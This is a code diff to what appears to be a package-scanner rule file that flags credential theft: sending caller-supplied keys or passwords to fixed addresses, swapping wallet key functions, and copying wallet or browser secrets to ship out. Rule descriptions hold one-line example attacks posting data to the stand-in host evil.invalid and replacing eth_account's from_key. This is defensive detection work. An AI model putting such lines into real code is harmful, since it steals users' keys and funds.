@@ -20,13 +20,28 @@ export const CREDENTIAL_COMBINATIONS: readonly Combination[] = [
       example: 'def sign(private_key): requests.post("https://evil.invalid", data=private_key)',
       technique: 'T1552',
     },
-    judge: ({ behaviour, labels, host, text, isDropped, isQuiet }) => {
+    judge: ({ behaviour, labels, host, text, isDropped, isQuiet, isHidden }) => {
       if (behaviour !== 'contacts' || host === undefined || !labels.has('key-parameter')) return undefined;
+      // Nobody is to know of the address either.
+      if (isHidden === true && isDropped === true) return 'CRITICAL';
       // Who and where the owner is goes along, or nobody looks at what comes back.
       const isTold = count(labels, IDENTITY) > 0 || (isDropped === true && isQuiet === true);
       return isTold || isCollecting(text ?? '') || labels.has('own-account') ? 'CRITICAL' : 'HIGH';
     },
     message: ({ name }) => `${name} sends a key handed in by the caller to a fixed address`,
+  },
+  {
+    doc: {
+      id: 'key-function-replaced',
+      title: 'Replaces the function of another library that private keys go through',
+      why: 'Whoever puts a function of their own into the place of one that makes, reads or uses keys of a wallet sees every key from then on.',
+      remedy: 'Do not install the package; move funds if a key was used while it was installed.',
+      example: 'eth_account.Account.from_key = ours',
+      technique: 'T1556',
+    },
+    judge: ({ behaviour, reach }) =>
+      behaviour === 'replaces-function' ? (isUnasked(reach) ? 'CRITICAL' : 'HIGH') : undefined,
+    message: ({ name, reach }) => `${name} is replaced ${WHEN[reach]}`,
   },
   {
     doc: {
@@ -69,11 +84,14 @@ export const CREDENTIAL_COMBINATIONS: readonly Combination[] = [
       example: 'try: requests.post("https://evil.invalid", data=password)\nexcept Exception: pass',
       technique: 'T1056',
     },
-    judge: ({ behaviour, labels, host, isDropped, isQuiet, name, text, reach }) => {
+    judge: ({ behaviour, labels, host, isDropped, isQuiet, isHidden, name, text, reach }) => {
       const isCarried = behaviour === 'starts-process' && CARRIERS.test(text ?? '');
       if ((behaviour !== 'contacts' && !isCarried) || host === undefined) return undefined;
       if (labels.has('credential') && isFixedAccount(text ?? '')) return 'CRITICAL';
+      if (labels.has('password') && isHidden === true && isDropped === true) return 'CRITICAL';
       if (isDropped !== true || isQuiet !== true) return undefined;
+      // What others sign in with was taken out of their request.
+      if (labels.has('credential') && labels.has('request')) return 'CRITICAL';
       const isCredential = labels.has('credential') || labels.has('secret');
       // Nobody looks up a composed name and lets go of the address, but to have the name arrive.
       const isLookup = LOOKUP.test(name) && (text ?? '').includes('\uFFFC');
@@ -97,6 +115,24 @@ const site = (host: string | undefined): string => (host ?? '').split('.').slice
 
 /** A password that goes to two places in one file. */
 export const CREDENTIAL_PAIRS: readonly PairCombination[] = [
+  {
+    doc: {
+      id: 'secrets-gathered-and-sent',
+      title: 'Copies files in which programs keep secrets, and sends a file to a fixed address',
+      why: 'Wallets, profiles of browsers and sessions of messengers are copied together to be packed and taken away in one go.',
+      remedy: 'Do not install the package. If it ran somewhere, change the secrets that machine could see.',
+      example:
+        'shutil.copytree(wallet, folder); requests.put("https://evil.invalid/a.zip", data=open(packed, "rb"))',
+      technique: 'T1560',
+    },
+    first: ({ behaviour }) => behaviour === 'copies-secret',
+    second: ({ behaviour, labels, host }) =>
+      behaviour === 'contacts' && host !== undefined && (labels.has('file') || labels.has('user-file')),
+    severity: ({ reach, text, isDropped }) =>
+      isUnasked(reach) || isDropped === true || isCollecting(text ?? '') ? 'CRITICAL' : 'HIGH',
+    message: (first, { name, reach }) =>
+      `${first.name} copies ${first.text ?? 'secrets'} and ${name} sends a file ${WHEN[reach]}`,
+  },
   {
     doc: {
       id: 'password-sent-twice',
